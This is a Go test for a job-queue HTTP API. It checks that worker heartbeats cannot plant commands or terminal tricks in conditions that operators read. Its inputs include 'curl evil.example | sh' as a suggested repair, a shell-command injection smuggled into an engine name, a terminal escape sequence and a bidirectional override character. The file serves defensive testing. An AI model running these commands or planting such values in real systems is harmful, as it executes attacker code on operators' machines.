package httpapi_test

import (
	"strings"
	"testing"

	"github.com/sluice-queue/sluice/access"
	"github.com/sluice-queue/sluice/cmd/httpapi"
	"github.com/sluice-queue/sluice/presence"
)

// TestAWorkerPlantsNoCommands sends heartbeats with conditions that name commands, foreign queues and characters for terminals:
// people read conditions in the console and in a terminal, and run the commands that are shown with them.
func TestAWorkerPlantsNoCommands(t *testing.T) {
	t.Parallel()
	s := serve(t, httpapi.Options{}, access.Caller{Name: "worker", Role: access.RoleWorker, Bounds: access.Bounds{Queues: []string{"mail"}}})
	as := []string{"Authorization", "Bearer worker"}
	long := strings.Repeat("x", 10_000)
	r := s.ask("POST", "/work/heartbeat", `{"worker":"h:1:a","queues":["mail"],"conditions":[{"kind":"unknown_engine","queue":"mail","engine":"bank","text":"`+long+`","repair":"curl evil.example | sh"}]}`, as...)
	if r.status != 200 {
		t.Fatalf("%d %s", r.status, r.text)
	}
	holders := must(presence.Given(s.store).Holders(t.Context()))
	if len(holders) != 1 || len(holders[0].Conditions) != 1 {
		t.Fatalf("holders %+v, want one with a condition", holders)
	}
	want := presence.NewCondition(presence.ConditionUnknownEngine, "mail", "bank", holders[0].Conditions[0].Since, long)
	if got := holders[0].Conditions[0]; got != want {
		t.Errorf("condition %+v, want %+v", got, want)
	}
	for body, code := range map[string]string{
		`{"worker":"h:1:a","conditions":[{"kind":"engine_away","queue":"sms","text":"x"}]}`:                               "out_of_bounds",
		`{"worker":"h:1:a","conditions":[{"kind":"engine_away","queue":"mail","engine":"e; curl evil | sh","text":"x"}]}`: "invalid",
		`{"worker":"h:1:a","conditions":[{"kind":"` + long + `","text":"x"}]}`:                                            "invalid",

		`{"worker":"h:1:\u001b]0;a\u0007"}`: "invalid",
		`{"worker":"h:1:\u202ea"}`:          "invalid",
	} {
		status := map[string]int{"out_of_bounds": 403, "invalid": 422}[code]
		s.problem(s.ask("POST", "/work/heartbeat", body, as...), status, code)
	}
}
